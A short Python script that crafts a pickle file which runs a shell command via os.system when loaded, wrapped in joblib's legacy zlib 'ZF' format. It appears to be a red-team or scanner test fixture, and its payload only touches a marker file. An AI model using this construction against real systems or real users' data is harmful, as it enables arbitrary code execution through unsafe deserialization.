import zlib
raw = b"cos\nsystem\n(S'touch /tmp/rt15/pwned_joblib_zf'\ntR."
hdr = b"ZF" + ("0x%x" % len(raw)).encode().ljust(19, b" ")
open("fn_joblib_zf.pkl","wb").write(hdr + zlib.compress(raw))
